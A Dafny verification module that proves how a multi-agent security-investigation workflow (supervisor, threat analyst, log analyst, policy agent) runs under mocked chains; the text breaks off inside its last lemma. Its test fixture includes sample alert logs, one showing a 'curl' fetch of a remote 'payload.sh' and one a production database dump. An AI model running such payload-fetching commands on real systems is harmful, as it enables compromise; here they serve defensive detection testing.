/** Whole runs of the investigation graph: a run under the fast-track table
    follows that table's decision path round by round, which gives the
    end-to-end scenarios; with no logs and a benign verdict it never ends;
    it writes each verdict, the policy and its trace lines at most once; and
    a supervisor following the prompt's own table fails at once. */
module WorkflowRuns {
  import opened Common
  import opened Records
  import opened SupervisorRules
  import opened State
  import opened ThreatAnalystStep
  import opened LogAnalystStep
  import opened PolicyStep
  import opened Workflow

  // ---------------------------------------------------------------------
  // Unfolding a run
  // ---------------------------------------------------------------------

  /** Two emitted steps in a row, for any step function. */
  lemma RunTwoSteps(step: (GraphState, Node) -> StepResult, s: GraphState, at: Node, fuel: nat)
    requires fuel >= 2 && step(s, at).Emitted? && step(s, at).next.Goto?
    requires var s1 := Merge(s, step(s, at).event.update);
      step(s1, step(s, at).next.node).Emitted? && step(s1, step(s, at).next.node).next.Goto?
    ensures var first := step(s, at);
      var s1 := Merge(s, first.event.update);
      var second := step(s1, first.next.node);
      RunWith(step, s, at, fuel)
        == After([first.event, second.event], RunWith(step, Merge(s1, second.event.update), second.next.node, fuel - 2))
  {
    var first := step(s, at);
    var s1 := Merge(s, first.event.update);
    var second := step(s1, first.next.node);
    AfterAfter([first.event], second.event, RunWith(step, Merge(s1, second.event.update), second.next.node, fuel - 2));
  }

  // ---------------------------------------------------------------------
  // The supervisor following the fast-track table
  // ---------------------------------------------------------------------

  /** The node a route dispatches to; the two routes without a node map to
      the supervisor, which no route reaches. */
  function RouteNode(r: Route): Node {
    match r
    case ToThreatAnalyst => ThreatAnalystNode
    case ToLogAnalyst => LogAnalystNode
    case ToPolicyAgent => PolicyAgentNode
    case _ => SupervisorNode
  }

  /** With the fast-track chain, a supervisor step records the table's
      decision on the state's facts and follows it. */
  lemma FastTrackSupervisorStep(s: GraphState, o: Oracles)
    requires o.supervisor == FastTrackChain
    ensures var r := DecideFastTrack(FactsOf(s));
      Superstep(s, SupervisorNode, o)
        == Emitted(StepEvent(SupervisorNode, Decision(r)), if r == EndInvestigation then Finish else Goto(RouteNode(r)))
  {
    var r := DecideFastTrack(FactsOf(s));
    ReadFactsOfInputs(s);
    assert FastTrackChain(SupervisorInputs(s)) == Ok(RouteLabel(r));
    assert RunSupervisor(s, o.supervisor) == Ok(Decision(r));
    assert RouteOf(Merge(s, Decision(r))) == Ok(RouteLabel(r));
    DispatchCoversRoutes(r);
  }

  // ---------------------------------------------------------------------
  // Runs with well-behaved chains
  // ---------------------------------------------------------------------

  /** Chains that always answer, each analyst with a fixed verdict, and a
      policy chain whose rules always validate — the doubles the end-to-end
      tests install — with the supervisor following the fast-track table. */
  ghost predicate Mocks(o: Oracles, maliciousIntel: bool, anomalousLogs: bool) {
    o.supervisor == FastTrackChain
    && IntelAnswers(o, maliciousIntel)
    && (forall l :: o.logChain(l).Ok? && o.logChain(l).value.containsAnomaly == anomalousLogs)
    && (forall i, t :: o.policyChain(i, t).Ok? && ValidateRule(o.policyChain(i, t).value).Some?)
  }

  /** The tool-calling agent always answers and the formatter always
      returns a verdict, malicious or not as given. */
  ghost predicate IntelAnswers(o: Oracles, maliciousIntel: bool) {
    (forall i :: o.toolUser(i).Ok?)
    && (forall i, raw :: o.formatter(i, raw).Ok? && o.formatter(i, raw).value.isMalicious == maliciousIntel)
  }

  /** A state the mocks can act on: the indicator is present, the logs are
      present unless the intel is malicious (the log analyst is then never
      dispatched), and the verdicts already recorded are the mocks'. */
  predicate Consistent(s: GraphState, maliciousIntel: bool, anomalousLogs: bool) {
    s.indicator.Some? && (maliciousIntel || !NoLogs(s))
    && (s.intel.Some? ==> s.intel.value.isMalicious == maliciousIntel)
    && (s.logSummary.Some? ==> s.logSummary.value.containsAnomaly == anomalousLogs)
  }

  function KnowledgeOf(s: GraphState): Knowledge {
    Knowledge(FactsOf(s), false)
  }

  /** The Threat Analyst with answering chains: it records the verdict and
      one trace line and changes nothing else the supervisor reads. */
  lemma ThreatAnalystAnswers(s: GraphState, o: Oracles, maliciousIntel: bool)
    requires IntelAnswers(o, maliciousIntel) && s.indicator.Some?
    ensures var step := Superstep(s, ThreatAnalystNode, o);
      step.Emitted? && step.next == Goto(SupervisorNode)
      && var s2 := Merge(s, step.event.update);
      s2.intel.Some? && s2.intel.value.isMalicious == maliciousIntel
      && s2.indicator == s.indicator && s2.logs == s.logs
      && s2.logSummary == s.logSummary && s2.policy == s.policy
      && |s2.trace| == |s.trace| + 1
  {
    var ind := s.indicator.value;
    assert o.formatter(ind, o.toolUser(ind).value).Ok?;
  }

  /** The Threat Analyst under the mocks, when no intel is recorded yet:
      it succeeds, records the mocks' intel verdict and one trace line. */
  lemma ThreatAnalystMocked(s: GraphState, o: Oracles, maliciousIntel: bool, anomalousLogs: bool)
    requires Mocks(o, maliciousIntel, anomalousLogs) && Consistent(s, maliciousIntel, anomalousLogs)
    requires s.intel.None?
    ensures var step := Superstep(s, ThreatAnalystNode, o);
      step.Emitted? && step.next == Goto(SupervisorNode)
      && var s2 := Merge(s, step.event.update);
      Consistent(s2, maliciousIntel, anomalousLogs)
      && KnowledgeOf(s2) == Effect(ToThreatAnalyst, KnowledgeOf(s), maliciousIntel, anomalousLogs)
      && |s2.trace| == |s.trace| + 1
  {
    ThreatAnalystAnswers(s, o, maliciousIntel);
  }

  /** The Log Analyst under the mocks, when there are logs and no log
      summary is recorded yet. */
  lemma LogAnalystMocked(s: GraphState, o: Oracles, maliciousIntel: bool, anomalousLogs: bool)
    requires Mocks(o, maliciousIntel, anomalousLogs) && Consistent(s, maliciousIntel, anomalousLogs)
    requires s.logSummary.None? && !NoLogs(s)
    ensures var step := Superstep(s, LogAnalystNode, o);
      step.Emitted? && step.next == Goto(SupervisorNode)
      && var s2 := Merge(s, step.event.update);
      Consistent(s2, maliciousIntel, anomalousLogs)
      && KnowledgeOf(s2) == Effect(ToLogAnalyst, KnowledgeOf(s), maliciousIntel, anomalousLogs)
      && |s2.trace| == |s.trace| + 1
  {
    assert o.logChain(s.logs.value).Ok?;
  }

  /** The Policy Agent under the mocks: its rule always validates. */
  lemma PolicyAgentMocked(s: GraphState, o: Oracles, maliciousIntel: bool, anomalousLogs: bool)
    requires Mocks(o, maliciousIntel, anomalousLogs) && Consistent(s, maliciousIntel, anomalousLogs)
    ensures var step := Superstep(s, PolicyAgentNode, o);
      step.Emitted? && step.next == Goto(SupervisorNode)
      && var s2 := Merge(s, step.event.update);
      Consistent(s2, maliciousIntel, anomalousLogs)
      && KnowledgeOf(s2) == Effect(ToPolicyAgent, KnowledgeOf(s), maliciousIntel, anomalousLogs)
      && |s2.trace| == |s.trace| + 1
  {
    var ind := s.indicator.value;
    assert o.policyChain(ind, TraceText(s)).Ok?;
  }

  /** The specialist the fast-track table dispatches to succeeds under the
      mocks and changes the facts as the decision path's effect says. */
  lemma SpecialistMocked(s: GraphState, r: Route, o: Oracles, maliciousIntel: bool, anomalousLogs: bool)
    requires Mocks(o, maliciousIntel, anomalousLogs) && Consistent(s, maliciousIntel, anomalousLogs)
    requires r == DecideFastTrack(FactsOf(s)) && r != EndInvestigation
    ensures var step := Superstep(s, RouteNode(r), o);
      step.Emitted? && step.next == Goto(SupervisorNode)
      && var s2 := Merge(s, step.event.update);
      Consistent(s2, maliciousIntel, anomalousLogs)
      && KnowledgeOf(s2) == Effect(r, KnowledgeOf(s), maliciousIntel, anomalousLogs)
      && |s2.trace| == |s.trace| + 1
  {
    match r {
      case ToThreatAnalyst => ThreatAnalystMocked(s, o, maliciousIntel, anomalousLogs);
      case ToLogAnalyst =>
        assert !maliciousIntel;
        LogAnalystMocked(s, o, maliciousIntel, anomalousLogs);
      case ToPolicyAgent => PolicyAgentMocked(s, o, maliciousIntel, anomalousLogs);
    }
  }

  /** One round of a run from `s`, for any step function: the supervisor
      step follows the fast-track decision; to end, it finishes without
      touching the trace; otherwise the chosen specialist runs, returns to
      the supervisor, changes the facts as the decision path's effect says
      and adds one trace line. */
  ghost predicate RoundBehaves(step: (GraphState, Node) -> StepResult, s: GraphState, maliciousIntel: bool, anomalousLogs: bool) {
    var r := DecideFastTrack(FactsOf(s));
    var first := step(s, SupervisorNode);
    first.Emitted? && first.event.node == SupervisorNode
    && (r == EndInvestigation ==> first.next == Finish && Merge(s, first.event.update).trace == s.trace)
    && (r != EndInvestigation ==>
          first.next == Goto(RouteNode(r))
          && var s1 := Merge(s, first.event.update);
          var second := step(s1, RouteNode(r));
          second.Emitted? && second.event.node == RouteNode(r) && second.next == Goto(SupervisorNode)
          && var s2 := Merge(s1, second.event.update);
          Consistent(s2, maliciousIntel, anomalousLogs)
          && KnowledgeOf(s2) == Effect(r, KnowledgeOf(s), maliciousIntel, anomalousLogs)
          && |s2.trace| == |s.trace| + 1)
  }

  /** The graph's own step under the mocks behaves so in every consistent
      state. */
  lemma MockedRoundBehaves(s: GraphState, o: Oracles, maliciousIntel: bool, anomalousLogs: bool)
    requires Mocks(o, maliciousIntel, anomalousLogs) && Consistent(s, maliciousIntel, anomalousLogs)
    ensures RoundBehaves(GraphStep(o), s, maliciousIntel, anomalousLogs)
  {
    var r := DecideFastTrack(FactsOf(s));
    FastTrackSupervisorStep(s, o);
    if r != EndInvestigation {
      var s1 := Merge(s, Decision(r));
      assert FactsOf(s1) == FactsOf(s) && |s1.trace| == |s.trace|;
      SpecialistMocked(s1, r, o, maliciousIntel, anomalousLogs);
    }
  }

  /** The nodes a decision path visits: each decision is a supervisor step,
      followed by the chosen specialist unless the decision is to end. */
  function Expand(path: seq<Route>): seq<Node>
    decreases |path|
  {
    if path == [] then []
    else (if path[0] == EndInvestigation then [SupervisorNode] else [SupervisorNode, RouteNode(path[0])]) + Expand(path[1..])
  }

  /** Prepending two events to a run adds their nodes in front and changes
      neither its ending nor its final state. */
  lemma AfterTwo(ev1: StepEvent, ev2: StepEvent, rest: Outcome)
    ensures var out := After([ev1, ev2], rest);
      Nodes(out.events) == [ev1.node, ev2.node] + Nodes(rest.events)
      && out.ending == rest.ending && out.final == rest.final
  {
    var evs := [ev1, ev2] + rest.events;
    assert forall i :: 2 <= i < |evs| ==> evs[i] == rest.events[i - 2];
  }

  /** A run that completes, visits exactly the nodes of `path` and adds
      one trace line to `traceBefore` lines per specialist step. */
  predicate FollowsPath(out: Outcome, traceBefore: nat, path: seq<Route>) {
    out.ending == Completed
    && Nodes(out.events) == Expand(path)
    && |out.final.trace| == traceBefore + |path| - 1
  }

  /** Putting a round in front of a run that follows the rest of the path
      gives a run that follows the whole path. */
  lemma PrefixRound(ev1: StepEvent, ev2: StepEvent, rest: Outcome, r: Route, tail: seq<Route>, traceBefore: nat)
    requires r != EndInvestigation && ev1.node == SupervisorNode && ev2.node == RouteNode(r)
    requires FollowsPath(rest, traceBefore + 1, tail)
    ensures FollowsPath(After([ev1, ev2], rest), traceBefore, [r] + tail)
  {
    AfterTwo(ev1, ev2, rest);
    assert ([r] + tail)[1..] == tail;
  }

  /** Every consistent state's round behaves. */
  ghost predicate AllRoundsBehave(step: (GraphState, Node) -> StepResult, maliciousIntel: bool, anomalousLogs: bool) {
    forall t {:trigger RoundBehaves(step, t, maliciousIntel, anomalousLogs)} ::
      Consistent(t, maliciousIntel, anomalousLogs) ==> RoundBehaves(step, t, maliciousIntel, anomalousLogs)
  }

  /** The last decision ends the run in one step, leaving the trace as it
      was. */
  lemma EndRound(step: (GraphState, Node) -> StepResult, s: GraphState, maliciousIntel: bool, anomalousLogs: bool, fuel: nat)
    requires AllRoundsBehave(step, maliciousIntel, anomalousLogs) && Consistent(s, maliciousIntel, anomalousLogs)
    requires fuel > 0 && DecideFastTrack(FactsOf(s)) == EndInvestigation
    ensures var out := RunWith(step, s, SupervisorNode, fuel);
      out.ending == Completed && Nodes(out.events) == [SupervisorNode] && |out.final.trace| == |s.trace|
  {
    assert RoundBehaves(step, s, maliciousIntel, anomalousLogs);
  }

  /** Any other decision takes a round of two steps: the run is those two
      events in front of the run from the state after them. */
  lemma SpecialistRound(step: (GraphState, Node) -> StepResult, s: GraphState, maliciousIntel: bool, anomalousLogs: bool,
                        fuel: nat)
      returns (ev1: StepEvent, ev2: StepEvent, s2: GraphState)
    requires AllRoundsBehave(step, maliciousIntel, anomalousLogs) && Consistent(s, maliciousIntel, anomalousLogs)
    requires fuel >= 2 && DecideFastTrack(FactsOf(s)) != EndInvestigation
    ensures var r := DecideFastTrack(FactsOf(s));
      ev1.node == SupervisorNode && ev2.node == RouteNode(r)
      && RunWith(step, s, SupervisorNode, fuel) == After([ev1, ev2], RunWith(step, s2, SupervisorNode, fuel - 2))
      && Consistent(s2, maliciousIntel, anomalousLogs)
      && KnowledgeOf(s2) == Effect(r, KnowledgeOf(s), maliciousIntel, anomalousLogs)
      && |s2.trace| == |s.trace| + 1
  {
    assert RoundBehaves(step, s, maliciousIntel, anomalousLogs);
    var first := step(s, SupervisorNode);
    var s1 := Merge(s, first.event.update);
    var second := step(s1, first.next.node);
    ev1, ev2, s2 := first.event, second.event, Merge(s1, second.event.update);
    RunTwoSteps(step, s, SupervisorNode, fuel);
  }

  /** A path that ends, after a decision that does not end, is that
      decision in front of a path from its effect that still ends. */
  lemma PathAfterRound(k: Knowledge, maliciousIntel: bool, anomalousLogs: bool, n: nat, path: seq<Route>)
      returns (tail: seq<Route>)
    requires path == DecisionPath(FastTrack, k, maliciousIntel, anomalousLogs, n)
    requires EndInvestigation in path && Decide(FastTrack, k) != EndInvestigation
    ensures n > 1 && EndInvestigation in tail && path == [Decide(FastTrack, k)] + tail
    ensures tail == DecisionPath(FastTrack, Effect(Decide(FastTrack, k), k, maliciousIntel, anomalousLogs), maliciousIntel, anomalousLogs, n - 1)
  {
    PathStep(FastTrack, k, maliciousIntel, anomalousLogs, n);
    tail := DecisionPath(FastTrack, Effect(Decide(FastTrack, k), k, maliciousIntel, anomalousLogs), maliciousIntel, anomalousLogs, n - 1);
  }

  /** For any step function whose rounds behave: when the fast-track
      decision path from `s`'s knowledge ends within `n` decisions and the
      ceiling allows its steps, the run completes, visits exactly the nodes
      of the path, and leaves one trace line per specialist step. */
  lemma {:induction false} RunFollowsPath(step: (GraphState, Node) -> StepResult, s: GraphState, k: Knowledge,
                                          maliciousIntel: bool, anomalousLogs: bool, n: nat, path: seq<Route>, fuel: nat)
    requires AllRoundsBehave(step, maliciousIntel, anomalousLogs) && Consistent(s, maliciousIntel, anomalousLogs)
    requires k == KnowledgeOf(s) && path == DecisionPath(FastTrack, k, maliciousIntel, anomalousLogs, n)
    requires EndInvestigation in path && fuel + 1 >= 2 * n
    ensures FollowsPath(RunWith(step, s, SupervisorNode, fuel), |s.trace|, path)
    decreases n
  {
    var mi, al := maliciousIntel, anomalousLogs;
    var r := Decide(FastTrack, k);
    if r == EndInvestigation {
      PathEnds(FastTrack, k, mi, al, n);
      EndRound(step, s, mi, al, fuel);
      assert Expand(path) == [SupervisorNode] + Expand([]);
      assert FollowsPath(RunWith(step, s, SupervisorNode, fuel), |s.trace|, path);
    } else {
      var k2 := Effect(r, k, mi, al);
      var tail := PathAfterRound(k, mi, al, n, path);
      var ev1, ev2, s2 := SpecialistRound(step, s, mi, al, fuel);
      RunFollowsPath(step, s2, k2, mi, al, n - 1, tail, fuel - 2);
      var rest := RunWith(step, s2, SupervisorNode, fuel - 2);
      PrefixRound(ev1, ev2, rest, r, tail, |s.trace|);
      assert RunWith(step, s, SupervisorNode, fuel) == After([ev1, ev2], rest);
    }
  }

  /** A run of the graph under the mocks follows the fast-track decision
      path: it completes, visits exactly the path's nodes, and leaves one
      trace line per specialist step. */
  lemma FastTrackRunFollowsTable(s: GraphState, o: Oracles, maliciousIntel: bool, anomalousLogs: bool, n: nat, fuel: nat)
    requires Mocks(o, maliciousIntel, anomalousLogs) && Consistent(s, maliciousIntel, anomalousLogs)
    requires EndInvestigation in DecisionPath(FastTrack, KnowledgeOf(s), maliciousIntel, anomalousLogs, n)
    requires fuel + 1 >= 2 * n
    ensures var out := RunFrom(s, SupervisorNode, fuel, o);
      var path := DecisionPath(FastTrack, KnowledgeOf(s), maliciousIntel, anomalousLogs, n);
      out.ending == Completed
      && Nodes(out.events) == Expand(path)
      && |out.final.trace| == |s.trace| + |path| - 1
  {
    forall t | Consistent(t, maliciousIntel, anomalousLogs)
      ensures RoundBehaves(GraphStep(o), t, maliciousIntel, anomalousLogs)
    {
      MockedRoundBehaves(t, o, maliciousIntel, anomalousLogs);
    }
    assert AllRoundsBehave(GraphStep(o), maliciousIntel, anomalousLogs);
    var path := DecisionPath(FastTrack, KnowledgeOf(s), maliciousIntel, anomalousLogs, n);
    RunFollowsPath(GraphStep(o), s, KnowledgeOf(s), maliciousIntel, anomalousLogs, n, path, fuel);
    assert FollowsPath(RunFrom(s, SupervisorNode, fuel, o), |s.trace|, path);
  }

  /** The nodes of a path are those of its first decision's round followed
      by those of the rest. */
  lemma ExpandCons(r: Route, tail: seq<Route>)
    ensures Expand([r] + tail) ==
      (if r == EndInvestigation then [SupervisorNode] else [SupervisorNode, RouteNode(r)]) + Expand(tail)
  {
    assert ([r] + tail)[1..] == tail;
  }

  /** The nodes of a path of the fast-track table from the start. */
  function FreshNodes(maliciousIntel: bool, anomalousLogs: bool): seq<Node> {
    [SupervisorNode, ThreatAnalystNode]
    + (if maliciousIntel then [] else [SupervisorNode, LogAnalystNode])
    + (if maliciousIntel || anomalousLogs then [SupervisorNode, PolicyAgentNode] else [])
    + [SupervisorNode]
  }

  /** The decisions of the fast-track table from the start. */
  function FreshPath(maliciousIntel: bool, anomalousLogs: bool): seq<Route> {
    [ToThreatAnalyst] + (if maliciousIntel then [] else [ToLogAnalyst])
    + (if maliciousIntel || anomalousLogs then [ToPolicyAgent] else []) + [EndInvestigation]
  }

  /** Those decisions visit those nodes. */
  lemma FreshPathNodes(maliciousIntel: bool, anomalousLogs: bool)
    ensures Expand(FreshPath(maliciousIntel, anomalousLogs)) == FreshNodes(maliciousIntel, anomalousLogs)
  {
    var mi, al := maliciousIntel, anomalousLogs;
    ExpandCons(EndInvestigation, []);
    ExpandCons(ToPolicyAgent, [EndInvestigation]);
    if mi {
      assert FreshPath(mi, al) == [ToThreatAnalyst, ToPolicyAgent, EndInvestigation];
      ExpandCons(ToThreatAnalyst, [ToPolicyAgent, EndInvestigation]);
    } else if al {
      assert FreshPath(mi, al) == [ToThreatAnalyst, ToLogAnalyst, ToPolicyAgent, EndInvestigation];
      ExpandCons(ToLogAnalyst, [ToPolicyAgent, EndInvestigation]);
      ExpandCons(ToThreatAnalyst, [ToLogAnalyst, ToPolicyAgent, EndInvestigation]);
    } else {
      assert FreshPath(mi, al) == [ToThreatAnalyst, ToLogAnalyst, EndInvestigation];
      ExpandCons(ToLogAnalyst, [EndInvestigation]);
      ExpandCons(ToThreatAnalyst, [ToLogAnalyst, EndInvestigation]);
    }
  }

  /** A malicious indicator skips the log analyst whatever the logs. */
  lemma MaliciousFreshNodes(anomalousLogs: bool)
    ensures FreshNodes(true, anomalousLogs) == [SupervisorNode, ThreatAnalystNode, SupervisorNode, PolicyAgentNode, SupervisorNode]
  {
  }

  /** A fresh investigation under the mocks, within the step ceiling: the
      run completes after the supervisor and the Threat Analyst, then the
      Log Analyst unless the intel is malicious, then the Policy Agent when
      either verdict is a threat, and a last supervisor step; it leaves one
      trace line per specialist step. */
  lemma FastTrackScenario(s: GraphState, o: Oracles, maliciousIntel: bool, anomalousLogs: bool)
    requires Mocks(o, maliciousIntel, anomalousLogs) && Consistent(s, maliciousIntel, anomalousLogs)
    requires s.intel.None? && s.logSummary.None? && s.policy.None?
    ensures var out := RunFrom(s, SupervisorNode, RecursionLimit, o);
      out.ending == Completed
      && Nodes(out.events) == FreshNodes(maliciousIntel, anomalousLogs)
      && |out.final.trace| == |s.trace| + 1 + (if maliciousIntel then 0 else 1)
           + (if maliciousIntel || anomalousLogs then 1 else 0)
  {
    assert KnowledgeOf(s) == Start;
    FastTrackPaths(maliciousIntel, anomalousLogs, 4);
    assert DecisionPath(FastTrack, Start, maliciousIntel, anomalousLogs, 4) == FreshPath(maliciousIntel, anomalousLogs);
    FreshPathNodes(maliciousIntel, anomalousLogs);
    FastTrackRunFollowsTable(s, o, maliciousIntel, anomalousLogs, 4, RecursionLimit);
  }

  // ---------------------------------------------------------------------
  // The end-to-end test scenarios
  // ---------------------------------------------------------------------

  /** One row of the end-to-end test table: the alert's indicator and
      logs, the two mocked verdicts, and how often each analyst's chain is
      expected to run and how long the trace is expected to be. */
  datatype Scenario = Scenario(
    indicator: string,
    logs: string,
    vtIsMalicious: bool,
    logIsAnomaly: bool,
    threatAnalystCalls: nat,
    logAnalystCalls: nat,
    policyAgentCalls: nat,
    traceLength: nat)

  const TestScenarios: seq<Scenario> := [
    Scenario("1.1.1.1", "User 'healthchecker' logged in.", false, false, 1, 1, 0, 2),
    Scenario("142.250.190.46", "User 'guest' accessed marketing_banner.jpg.", true, false, 1, 0, 1, 2),
    Scenario("8.8.8.8", "User 'dev-admin' " + "executed 'mysqldump production_db'", false, true, 1, 1, 1, 3),
    Scenario("192.241.143.101", "User 'www-data' " + "executed 'curl http://192.241.143.101/payload.sh'", true, true, 1, 0, 1, 2)
  ]

  /** The doubles the tests install: the tool agent's canned reply, the
      formatter's and the log chain's fixed verdicts, and one fixed rule. */
  function MockOracles(vtIsMalicious: bool, logIsAnomaly: bool): Oracles {
    Oracles(
      FastTrackChain,
      (indicator: string) => Ok("Mocked VirusTotal response"),
      (indicator: string, raw: string) => Ok(ThreatIntel("VT mock", vtIsMalicious)),
      (logs: string) => Ok(LogAnalysis("Log mock", logIsAnomaly)),
      (indicator: string, trace: string) => Ok(RawRule("Mocked Policy", "BLOCK", "0.0.0.0", "ANY")))
  }

  lemma MockOraclesAreMocks(vtIsMalicious: bool, logIsAnomaly: bool)
    ensures Mocks(MockOracles(vtIsMalicious, logIsAnomaly), vtIsMalicious, logIsAnomaly)
  {
    assert ValidateRule(RawRule("Mocked Policy", "BLOCK", "0.0.0.0", "ANY")).Some?;
  }

  /** The initial state a test row invokes the graph with. */
  function ScenarioState(sc: Scenario): GraphState {
    GraphState(Alert("test alert", None), Some(sc.indicator), Some(sc.logs), None, None, None, None, [], None)
  }

  /** How often a node occurs among the visited nodes. */
  function Visits(ns: seq<Node>, n: Node): nat
    decreases |ns|
  {
    if ns == [] then 0 else (if ns[0] == n then 1 else 0) + Visits(ns[1..], n)
  }

  lemma {:induction false} VisitsAppend(a: seq<Node>, b: seq<Node>, n: Node)
    ensures Visits(a + b, n) == Visits(a, n) + Visits(b, n)
    decreases |a|
  {
    if a != [] {
      assert (a + b)[0] == a[0] && (a + b)[1..] == a[1..] + b;
      VisitsAppend(a[1..], b, n);
    } else {
      assert a + b == b;
    }
  }

  /** A fresh run under the mocks runs the Threat Analyst once, the Log
      Analyst unless the intel is malicious, and the Policy Agent exactly
      when either verdict is a threat. */
  lemma FreshVisits(maliciousIntel: bool, anomalousLogs: bool)
    ensures var ns := FreshNodes(maliciousIntel, anomalousLogs);
      Visits(ns, ThreatAnalystNode) == 1
      && Visits(ns, LogAnalystNode) == (if maliciousIntel then 0 else 1)
      && Visits(ns, PolicyAgentNode) == (if maliciousIntel || anomalousLogs then 1 else 0)
  {
    var head: seq<Node> := [SupervisorNode, ThreatAnalystNode];
    var la: seq<Node> := if maliciousIntel then [] else [SupervisorNode, LogAnalystNode];
    var pa: seq<Node> := if maliciousIntel || anomalousLogs then [SupervisorNode, PolicyAgentNode] else [];
    var last: seq<Node> := [SupervisorNode];
    forall n: Node ensures Visits(FreshNodes(maliciousIntel, anomalousLogs), n)
                           == Visits(head, n) + Visits(la, n) + Visits(pa, n) + Visits(last, n) {
      VisitsAppend(head, la, n);
      VisitsAppend(head + la, pa, n);
      VisitsAppend(head + la + pa, last, n);
    }
    assert head[1..][1..] == [] && last[1..] == [];
    assert [SupervisorNode, LogAnalystNode][1..][1..] == [] && [SupervisorNode, PolicyAgentNode][1..][1..] == [];
  }

  /** Each row of the test table holds in the model: the run completes
      within the ceiling, each specialist runs as often as the row expects
      (each run calls its chain once), and the trace has the expected
      length. */
  lemma TestScenariosHold(i: nat)
    requires i < |TestScenarios|
    ensures var sc := TestScenarios[i];
      var out := RunFrom(ScenarioState(sc), SupervisorNode, RecursionLimit, MockOracles(sc.vtIsMalicious, sc.logIsAnomaly));
      out.ending == Completed
      && Visits(Nodes(out.events), ThreatAnalystNode) == sc.threatAnalystCalls
      && Visits(Nodes(out.events), LogAnalystNode) == sc.logAnalystCalls
      && Visits(Nodes(out.events), PolicyAgentNode) == sc.policyAgentCalls
      && |out.final.trace| == sc.traceLength
  {
    var sc := TestScenarios[i];
    assert sc.logs != "" by {
      if i == 0 { assert sc.logs[0] == 'U'; }
      else if i == 1 { assert sc.logs[0] == 'U'; }
      else if i == 2 { assert sc.logs[0] == 'U'; }
      else { assert sc.logs[0] == 'U'; }
    }
    MockOraclesAreMocks(sc.vtIsMalicious, sc.logIsAnomaly);
    FastTrackScenario(ScenarioState(sc), MockOracles(sc.vtIsMalicious, sc.logIsAnomaly), sc.vtIsMalicious, sc.logIsAnomaly);
    FreshVisits(sc.vtIsMalicious, sc.logIsAnomaly);
  }

  // ---------------------------------------------------------------------
  // A supervisor following the prompt's own table
  // ---------------------------------------------------------------------

  /** The prompt's chain never gets the playbook variable, so the first
      supervisor step raises and the run ends with nothing emitted and the
      state untouched. */
  lemma PromptVariantRunFails(s: GraphState, o: Oracles, fuel: nat)
    requires o.supervisor == PromptVariantChain && fuel > 0
    ensures RunFrom(s, SupervisorNode, fuel, o) == Outcome([], Aborted(StepRaised(SupervisorNode, MissingVariables)), s)
  {
    PromptVariantChainAlwaysFails(s);
    assert Superstep(s, SupervisorNode, o) == Raised(StepRaised(SupervisorNode, MissingVariables));
  }

  // ---------------------------------------------------------------------
  // Empty logs
  // ---------------------------------------------------------------------

  /** An investigation stuck on empty logs: the intel is benign, no log
      summary is recorded, and there is nothing for the Log Analyst to read.
      The fast-track table then asks for the Log Analyst, which changes
      nothing, so the supervisor asks again. */
  predicate StuckOnLogs(s: GraphState) {
    NoLogs(s) && s.intel.Some? && !s.intel.value.isMalicious && s.logSummary.None?
  }

  /** The other node of the loop. */
  function Partner(n: Node): Node {
    if n == SupervisorNode then LogAnalystNode else SupervisorNode
  }

  /** A step at `n` of the loop: it emits, hands over to the other node of
      the loop, and leaves the state stuck and the trace unchanged. */
  predicate LoopsAt(s: GraphState, n: Node, r: StepResult) {
    r.Emitted? && r.event.node == n && r.next == Goto(Partner(n))
    && StuckOnLogs(Merge(s, r.event.update)) && Merge(s, r.event.update).trace == s.trace
  }

  ghost predicate LoopsOnLogs(step: (GraphState, Node) -> StepResult) {
    forall t, n {:trigger step(t, n)} ::
      StuckOnLogs(t) && (n == SupervisorNode || n == LogAnalystNode) ==> LoopsAt(t, n, step(t, n))
  }

  /** The graph's steps loop so whatever the chains other than the
      supervisor's answer. */
  lemma GraphStepLoopsOnLogs(o: Oracles)
    requires o.supervisor == FastTrackChain
    ensures LoopsOnLogs(GraphStep(o))
  {
    forall t, n | StuckOnLogs(t) && (n == SupervisorNode || n == LogAnalystNode)
      ensures LoopsAt(t, n, GraphStep(o)(t, n))
    {
      assert GraphStep(o)(t, n) == Superstep(t, n, o);
      if n == SupervisorNode {
        FastTrackSupervisorStep(t, o);
      } else {
        NoLogsNoChange(t, o.logChain);
      }
    }
  }

  /** For any step function that loops so, a run from a stuck state uses
      up its whole budget alternating between the supervisor and the Log
      Analyst, and aborts at the ceiling with the trace as it was. */
  lemma {:induction false} StuckRun(step: (GraphState, Node) -> StepResult, s: GraphState, at: Node, fuel: nat)
    requires LoopsOnLogs(step) && StuckOnLogs(s) && (at == SupervisorNode || at == LogAnalystNode)
    ensures var out := RunWith(step, s, at, fuel);
      out.ending == Aborted(RecursionLimitReached) && |out.events| == fuel
      && (forall i :: 0 <= i < |out.events| ==> out.events[i].node == if i % 2 == 0 then at else Partner(at))
      && StuckOnLogs(out.final) && out.final.trace == s.trace
    decreases fuel
  {
    if fuel > 0 {
      var r := step(s, at);
      assert LoopsAt(s, at, r);
      var rest := RunWith(step, Merge(s, r.event.update), Partner(at), fuel - 1);
      StuckRun(step, Merge(s, r.event.update), Partner(at), fuel - 1);
      assert RunWith(step, s, at, fuel).events == [r.event] + rest.events;
    }
  }

  /** A run from `s` of `fuel` steps that aborts at the ceiling after
      the supervisor and the Threat Analyst and then only the supervisor
      and the Log Analyst in turn, with one line added to the trace and no
      log summary recorded. */
  predicate Livelocks(out: Outcome, s: GraphState, fuel: nat) {
    out.ending == Aborted(RecursionLimitReached) && |out.events| == fuel && fuel >= 2
    && out.events[0].node == SupervisorNode && out.events[1].node == ThreatAnalystNode
    && (forall i :: 2 <= i < fuel ==> out.events[i].node == if i % 2 == 0 then SupervisorNode else LogAnalystNode)
    && out.final.logSummary.None? && |out.final.trace| == |s.trace| + 1
  }

  /** For any step function that loops on stuck states: if the first round
      goes to the Threat Analyst and leaves the state stuck with one more
      trace line, the run livelocks. */
  lemma IntelThenStuck(step: (GraphState, Node) -> StepResult, s: GraphState, fuel: nat)
    requires LoopsOnLogs(step) && fuel >= 2
    requires var first := step(s, SupervisorNode);
      first.Emitted? && first.event.node == SupervisorNode && first.next == Goto(ThreatAnalystNode)
      && var s1 := Merge(s, first.event.update);
      var second := step(s1, ThreatAnalystNode);
      second.Emitted? && second.event.node == ThreatAnalystNode && second.next == Goto(SupervisorNode)
      && StuckOnLogs(Merge(s1, second.event.update)) && |Merge(s1, second.event.update).trace| == |s.trace| + 1
    ensures Livelocks(RunWith(step, s, SupervisorNode, fuel), s, fuel)
  {
    var first := step(s, SupervisorNode);
    var s1 := Merge(s, first.event.update);
    var second := step(s1, ThreatAnalystNode);
    var s2 := Merge(s1, second.event.update);
